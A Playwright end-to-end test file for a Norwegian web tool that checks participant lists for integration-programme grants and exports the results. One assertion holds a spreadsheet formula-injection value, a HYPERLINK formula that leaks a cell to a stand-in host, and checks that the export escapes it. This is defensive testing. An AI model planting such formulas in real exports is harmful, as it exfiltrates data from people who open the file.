import AxeBuilder from "@axe-core/playwright";
import { expect, test, type Page } from "@playwright/test";
import { readFile } from "node:fs/promises";
import Papa from "papaparse";
import { readSheet } from "read-excel-file/node";
import writeExcelFile from "write-excel-file/node";
import { badRows, caseworkerList, participantList, windows1252 } from "../../tools/participantList";

const CSV = "text/csv";
const XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
const FILE_LABEL = "Velg fil (CSV eller .xlsx)";

async function axe(page: Page, state: string) {
  const results = await new AxeBuilder({ page }).withTags(["wcag2a", "wcag2aa", "wcag21a", "wcag21aa"]).analyze();
  expect(results.violations.map((v) => `${v.id}: ${v.help}`), state).toEqual([]);
}

async function choose(page: Page, name: string, buffer: Buffer | Uint8Array, mimeType = CSV) {
  await page.getByLabel(FILE_LABEL).setInputFiles({ name, mimeType, buffer: Buffer.from(buffer) });
}

const done = (page: Page) => page.locator("[data-batch][data-ms]").waitFor({ state: "attached" });

async function download(page: Page, name: RegExp) {
  const [file] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name }).click()]);
  return { name: file.suggestedFilename(), bytes: await readFile((await file.path())!) };
}

const csvRows = (bytes: Buffer) => Papa.parse<string[]>(bytes.toString("utf8").replace(/^\uFEFF/, ""), { delimiter: ";", newline: "\r\n", skipEmptyLines: true }).data;

test("a 10,000-row list is checked in a Web Worker: no progress before a file, summary, row errors, paging, no upload, axe clean", async ({ page }) => {
  const requests: string[] = [];
  const workers: string[] = [];
  await page.goto("/deltakere/");
  await expect(page.getByText("Framdrift")).toBeHidden();
  await axe(page, "before a file");
  page.on("request", (r) => requests.push(`${r.method()} ${r.url()}`));
  page.on("worker", (w) => workers.push(new URL(w.url()).pathname));
  await choose(page, "deltakere.csv", Buffer.from(participantList()));
  await expect(page.getByRole("heading", { name: "Oppsummering per rapporteringslinje" })).toBeVisible();
  expect(workers.some((w) => w.startsWith("/_astro/workers/"))).toBe(true);
  await expect(page.getByText("Framdrift")).toBeHidden();
  const bad = badRows();
  await expect(page.locator("[data-summary-counts]")).toHaveText(`${10_000 - bad} rader vurdert, ${bad} rader med feil.`);
  // A long list of errors opens on request; all of them are in the download.
  await page.getByText(`Vis radene med feil (${bad})`).click();
  await expect(page.locator("[data-errors] li").first()).toBeVisible();
  await expect(page.locator("[data-errors] li").first()).toHaveText("Rad 51, kolonne «programstart»: «30.02.2019» – Datoen finnes ikke i kalenderen.");
  await expect(page.locator("[data-summary] thead th").first()).toHaveText("Regel");
  // The results come before the templates and the table of columns.
  const order = await page.evaluate(() => {
    const output = document.querySelector("[data-output]")!;
    const templates = [...document.querySelectorAll("h2")].find((h) => h.textContent === "Maler")!;
    return output.compareDocumentPosition(templates) & Node.DOCUMENT_POSITION_FOLLOWING;
  });
  expect(order).toBeTruthy();

  // Every result, page by page, far beyond the 500 the page used to stop at.
  const results = page.locator("[data-results]");
  const total = Number((await results.locator("caption").innerText()).match(/av (\d+)/)![1]);
  expect(total).toBeGreaterThan(50_000);
  await expect(results.locator("caption")).toHaveText(`Viser 1–100 av ${total}`);
  await expect(page.getByRole("button", { name: "Forrige side" })).toBeDisabled();
  for (let i = 0; i < 6; i++) await page.getByRole("button", { name: "Neste side" }).click();
  await expect(results.locator("caption")).toHaveText(`Viser 601–700 av ${total}`);
  await expect(results.locator("tbody tr")).toHaveCount(100);
  await expect(page.getByRole("button", { name: "Neste side" })).toBeFocused();
  await page.getByLabel("Vis status").selectOption({ label: "Har rett" });
  await expect(results.locator("caption")).toContainText("Viser 1–100 av ");
  await expect(results.locator("tbody tr").first().locator("td").nth(3)).toHaveText("Har rett");
  expect(requests.filter((r) => !r.startsWith("GET"))).toEqual([]);
  await axe(page, "results");
});

test("the download is one row per participant with their own columns, and its grants sum to the screen's total (CSV and .xlsx)", async ({ page }) => {
  const requests: string[] = [];
  await page.goto("/deltakere/");
  page.on("request", (r) => requests.push(`${r.method()} ${r.url()}`));
  await choose(page, "kommunens-liste.csv", Buffer.from(caseworkerList()));
  await done(page);
  const screenTotal = Number(await page.locator("[data-summary-total]").getAttribute("data-summary-total"));
  expect(screenTotal).toBeGreaterThan(0);
  const assessedOn = /Vurdert per (\d\d)\.(\d\d)\.(\d{4})/.exec(await page.locator("[data-assessed-on]").innerText())!;
  const csv = await download(page, /Last ned resultatene \(CSV\)/);
  expect(csv.name).toBe(`rettsjekk-resultater-${assessedOn[3]}-${assessedOn[2]}-${assessedOn[1]}.csv`);
  const rows = csvRows(csv.bytes);
  const [header, ...rest] = rows;
  const body = rest.slice(0, -1);
  const totalRow = rest.at(-1)!;
  expect(body).toHaveLength(24);
  expect(header!.slice(0, 2)).toEqual(["Navn", "referanse"]);
  expect(body[0]!.slice(0, 2)).toEqual(["Testperson Ås", "K-01"]);
  expect(body[5]![header!.indexOf("Merknad")]).toBe(`'=HYPERLINK("http://x.example/?leak="&A7,"klikk")`);
  expect(header).toContain("Utvidet programtid (integreringspakke III): status");
  expect(header).toContain("IP3-PROG");
  const grantColumns = header!.flatMap((h, i) => (h.endsWith(": tilskudd (kr)") ? [i] : []));
  const sum = (row: string[]) => grantColumns.reduce((s, i) => s + Number(row[i] || 0), 0);
  expect(body.reduce((s, row) => s + sum(row), 0)).toBe(screenTotal);
  expect(totalRow[0]).toBe("Sum");
  expect(sum(totalRow)).toBe(screenTotal);

  const xlsx = await download(page, /Last ned resultatene \(Excel\)/);
  const sheet = await readSheet(xlsx.bytes);
  expect(sheet.map((row) => row.map((v) => (v === null ? "" : String(v))))).toEqual(rows.map((row) => row.map((v) => v.replace(/^'(?=[=+\-@])/, ""))));
  expect(typeof sheet[1]![header!.indexOf("Rad")]).toBe("number");
  expect(requests.filter((r) => !r.startsWith("GET"))).toEqual([]);
});

test("a 10,000-row .xlsx download is made in the Worker (its zip library's blob: workers allowed there only) and matches the CSV", async ({ page }) => {
  await page.goto("/deltakere/");
  await choose(page, "deltakere.csv", Buffer.from(participantList()));
  await done(page);
  const csv = csvRows((await download(page, /Last ned resultatene \(CSV\)/)).bytes);
  const sheet = await readSheet((await download(page, /Last ned resultatene \(Excel\)/)).bytes);
  expect(sheet.length).toBe(csv.length);
  expect(sheet.length).toBeGreaterThan(10_000);
  for (const i of [1, 2, 500, sheet.length - 1]) expect(sheet[i]!.map((v) => (v === null ? "" : String(v)))).toEqual(csv[i]);
});

test("a Windows-1252 file keeps its Norwegian columns; the columns read and not read are shown before the results", async ({ page }) => {
  await page.goto("/deltakere/");
  await choose(page, "kommunens-liste.csv", Buffer.from(caseworkerList()));
  await done(page);
  const fromUtf8 = await page.locator("[data-summary]").innerText();
  await choose(page, "kommunens-liste-ansi.csv", windows1252(caseworkerList()));
  await expect(page.locator("[data-encoding]")).toHaveText("Fila er lest som Windows-1252 (eldre Excel, «CSV (semikolondelt)»).");
  await done(page);
  await expect(page.locator("[data-recognised]")).toContainText("«videregående»: Har fullført videregående opplæring.");
  await expect(page.locator("[data-recognised]")).toContainText("«sluttmål»: Sluttmålet i integreringsplanen.");
  await expect(page.locator("[data-columns-warning]")).toBeVisible();
  await expect(page.locator("[data-ignored] li")).toHaveText([
    "«Navn»: ukjent overskrift – ikke lest, men med uendret i nedlastingen",
    "«Merknad»: ukjent overskrift – ikke lest, men med uendret i nedlastingen",
  ]);
  expect(await page.locator("[data-summary]").innerText()).toBe(fromUtf8);
  await expect(page.locator("[data-summary-counts]")).toHaveText("22 rader vurdert, 2 rader med feil.");
  await expect(page.locator("[data-errors] li")).toHaveText([
    "Rad 6, kolonne «alder»: «tretti» – skriv et helt tall, for eksempel 31",
    "Rad 10, kolonne «programslutt»: «01.11.2019» – Sluttdatoen kan ikke være før startdatoen.",
  ]);
  const columns = await page.locator("[data-columns]").boundingBox();
  const summary = await page.locator("[data-summary]").boundingBox();
  expect(columns!.y).toBeLessThan(summary!.y);
  await axe(page, "column report with a warning");
});

test("the assessment date: today by default, dd.mm.yyyy or ISO, an impossible date is named and nothing runs", async ({ page }) => {
  await page.goto("/deltakere/");
  const today = new Intl.DateTimeFormat("nb-NO", { timeZone: "Europe/Oslo", day: "2-digit", month: "2-digit", year: "numeric" }).format(new Date());
  const date = page.getByLabel("Vurderingsdato");
  await expect(date).toHaveValue(today);
  await date.fill("31.02.2021");
  await choose(page, "deltakere.csv", Buffer.from(caseworkerList()));
  await expect(page.getByText("Skriv en dato som finnes, som dd.mm.åååå, for eksempel 22.11.2026.")).toBeVisible();
  await expect(date).toHaveAttribute("aria-invalid", "true");
  await expect(page.locator("[data-summary]")).toHaveCount(0);
  await axe(page, "invalid date");

  // The 2022 Q1 package is in force from 24 January 2022: on package III's round date nobody has it, later two do.
  const q122 = page.locator("[data-summary] tbody tr", { hasText: "Utvidet programtid (pakken for første kvartal 2022)" });
  await date.fill("2021-11-22");
  await date.blur();
  await expect(page.locator("[data-assessed-on]")).toHaveText("Vurdert per 22.11.2021.");
  await expect(date).toHaveAttribute("aria-invalid", "false");
  await expect(q122).toHaveCount(0);
  await date.fill("01.05.2022");
  await date.blur();
  await expect(page.locator("[data-assessed-on]")).toHaveText("Vurdert per 01.05.2022.");
  await expect(q122.locator("td").nth(2)).toHaveText("2");
});

test("Cancel ends the Worker: no results, the page says so, and the next file runs", async ({ page }) => {
  await page.goto("/deltakere/");
  // Hold every script the Worker asks for after its own (the .xlsx reader), so the check cannot finish
  // before Cancel: the Worker is running, waiting for it. No timing involved.
  let release!: () => void;
  const held = new Promise<void>((resolve) => (release = resolve));
  await page.route("**/_astro/**", async (route) => {
    if (!route.request().url().includes("/_astro/workers/")) await held;
    await route.continue().catch(() => undefined);
  });
  const closed = new Promise<void>((resolve) => page.once("worker", (w) => w.once("close", () => resolve())));
  const sheet = await writeExcelFile([["lovgrunnlag", "programstart"], ["introduksjonsloven", "15.08.2019"]] as never).toBuffer();
  await choose(page, "deltakere.xlsx", sheet, XLSX);
  await expect(page.getByText("Leser fila …")).toBeVisible();
  await expect(page.getByText("Framdrift")).toBeVisible();
  await page.getByRole("button", { name: "Avbryt" }).click();
  await closed;
  release();
  await page.unroute("**/_astro/**");
  await expect(page.locator("[data-status]")).toHaveText("Sjekken ble avbrutt. Ingen resultater vises.");
  await expect(page.getByText("Framdrift")).toBeHidden();
  await expect(page.getByLabel(FILE_LABEL)).toBeFocused();
  await expect(page.locator("[data-output]")).toBeEmpty();
  await axe(page, "cancelled");
  await choose(page, "deltakere.xlsx", sheet, XLSX);
  await expect(page.locator("[data-summary-counts]")).toHaveText("1 rader vurdert, 0 rader med feil.");
  await expect(page.locator("[data-status]")).toHaveText("");
});

test("handing counts to the report: kept in this browser until the link is opened, marked on the form, assessed ones only if chosen", async ({ page, context, request }) => {
  const admin = { Authorization: "Bearer e2e-admin-token-local-only", "Content-Type": "application/json" };
  const round = await request.post("/api/v1/admin/rounds", {
    headers: admin,
    data: { template: "package-iii-2021", title: "E2E pakke III", opensAt: new Date(Date.now() - 3600_000).toISOString(), closesAt: new Date(Date.now() + 86_400_000).toISOString(), municipalities: ["0301"] },
  });
  const { id } = (await round.json()) as { id: string };
  const { links } = (await (await request.post(`/api/v1/admin/rounds/${id}/links`, { headers: admin, data: {} })).json()) as { links: Array<{ url: string }> };
  const link = new URL(links[0]!.url).pathname;

  await page.goto("/deltakere/");
  await choose(page, "kommunens-liste.csv", Buffer.from(caseworkerList()));
  await done(page);
  await expect(page.locator("[data-handover-errors]")).toHaveText("2 rader med feil er ikke talt med: rad 6, rad 10.");
  await expect(page.getByRole("button", { name: "Lagre tallene til rapporten" })).toHaveAccessibleDescription("2 rader med feil er ikke talt med: rad 6, rad 10.");
  const ip3 = page.locator("[data-summary] tbody tr", { hasText: "Utvidet programtid (integreringspakke III)" }).locator("td");
  const [entitled, assessed] = [Number(await ip3.nth(1).innerText()), Number(await ip3.nth(2).innerText())];
  expect(assessed).toBeGreaterThan(0);
  await page.getByRole("button", { name: "Lagre tallene til rapporten" }).click();
  await expect(page.getByText("Tallene er lagret i denne nettleseren.")).toBeVisible();
  await axe(page, "counts saved");

  // The report page without its link: the counts wait, and the page says so.
  await page.getByRole("link", { name: "Gå til rapporten" }).click();
  await expect(page.locator("[data-prefill-notice]")).toContainText("er lagret i denne nettleseren");
  await axe(page, "report page, counts waiting");

  // The link from IMDi's e-mail, opened in another tab of this browser.
  const tab = await context.newPage();
  await tab.goto(link);
  const programme = tab.getByLabel(/Antall deltakere: Utvidet programtid \(integreringspakke III\)/);
  await expect(programme).toHaveValue(String(entitled));
  // The field's own help (who counts, the rate) comes first; the hand-over's note ends the description.
  await expect(programme).toHaveAccessibleDescription(new RegExp(`^Hvem som telles: .* Fra deltakerlista: ${entitled}\\. ${assessed} der kommunen vurderer behovet er ikke tatt med\\.$`));
  await expect(tab.locator("[data-prefill-notice]")).toContainText("Tall merket «Fra deltakerlista» er fylt inn fra lista");
  await axe(tab, "report form filled from the list");
  expect(await tab.evaluate(() => localStorage.getItem("rettsjekk:report-prefill"))).toBeNull();
  await tab.reload();
  await expect(tab.locator("[data-from-list]")).toHaveCount(0);

  // With the assessed ones chosen, and the report already open in this browser.
  await page.goto("/deltakere/");
  await choose(page, "kommunens-liste.csv", Buffer.from(caseworkerList()));
  await done(page);
  await page.getByLabel("Ta med deltakere der kommunen vurderer behovet").check();
  await page.getByRole("button", { name: "Lagre tallene til rapporten" }).click();
  await page.getByRole("link", { name: "Gå til rapporten" }).click();
  await expect(page.getByLabel(/Antall deltakere: Utvidet programtid \(integreringspakke III\)/)).toHaveValue(String(entitled + assessed));
  await expect(page.getByLabel(/Antall deltakere: Utvidet programtid \(integreringspakke III\)/)).toHaveAccessibleDescription(new RegExp(`^Hvem som telles: .* Fra deltakerlista: ${entitled + assessed}\\. ${assessed} av dem er deltakere der kommunen vurderer behovet\\.$`));
});

test("an Excel file (.xlsx) with real date cells and numbers is read in the Worker", async ({ page }) => {
  const sheet = [
    ["Referanse", "Lovgrunnlag", "Programstart", "Programslutt", "Alder"],
    ["X-1", "introduksjonsloven", new Date(Date.UTC(2019, 7, 15)), new Date(Date.UTC(2021, 11, 31)), 31],
    ["X-2", "introduksjonsloven", "01.03.2019", "2021-06-30", 40],
    ["X-3", "asyl", null, null, null],
  ];
  const buffer = await writeExcelFile(sheet as never, { dateFormat: "dd.mm.yyyy" } as never).toBuffer();
  await page.goto("/deltakere/");
  await choose(page, "deltakere.xlsx", buffer, XLSX);
  await expect(page.locator("[data-summary-counts]")).toHaveText("2 rader vurdert, 1 rader med feil.");
  await expect(page.locator("[data-errors]")).toContainText("Rad 4, kolonne «Lovgrunnlag»: «asyl» – skriv en av disse:");
  await expect(page.locator("[data-encoding]")).toHaveCount(0);
  await expect(page.getByRole("cell", { name: "Utvidet programtid (integreringspakke III)" }).first()).toBeVisible();
});

test("the Ukrainian page says every header in Ukrainian, the rule column as a rule", async ({ page }) => {
  await page.goto("/uk/deltakere/");
  await page.getByLabel("Виберіть файл (CSV або .xlsx)").setInputFiles({ name: "list.csv", mimeType: CSV, buffer: Buffer.from(caseworkerList()) });
  await done(page);
  await expect(page.locator("[data-summary] thead th").first()).toHaveText("Правило");
  await expect(page.locator("[data-results] thead th")).toHaveText(["Рядок", "Номер запису", "Правило", "Статус", "Макс. місяців", "Дотація"]);
  await axe(page, "Ukrainian results");
});
